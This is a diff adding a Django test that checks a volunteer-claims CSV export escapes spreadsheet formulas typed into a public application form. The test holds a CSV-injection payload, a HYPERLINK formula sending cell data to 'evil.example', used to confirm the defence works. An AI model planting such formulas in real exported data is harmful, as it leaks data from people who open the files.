@@ -99,3 +99,18 @@ def test_the_volunteer_sees_their_own_claim_on_the_visit(client_for, match):
     visit = log(match, 10)
     page = client_for(match.volunteer.user).get(reverse("families:visit_detail", args=[visit.pk]))
     assert "£4.50 · not paid yet" in page.content.decode()
+
+
+def test_a_formula_typed_as_a_name_reaches_the_csv_as_text(client_for, match, alice):
+    """The volunteer's name comes from the public application form: anyone can type it."""
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    volunteer = match.volunteer
+    volunteer.first_name, volunteer.last_name = formula, "@SUM(A1)"
+    volunteer.save()
+    log(match, 10)
+    client = client_for(alice)
+    csv_url = reverse("families:claims_csv")
+    client.post(reverse("vicp:confirm_password"), {"password": PASSWORD, "next": csv_url})
+    rows = list(csv.reader(io.StringIO(client.get(csv_url).content.decode())))
+    assert rows[1][0] == f"'{formula} @SUM(A1)"
+    assert rows[1][4:6] == ["10", "4.50"]
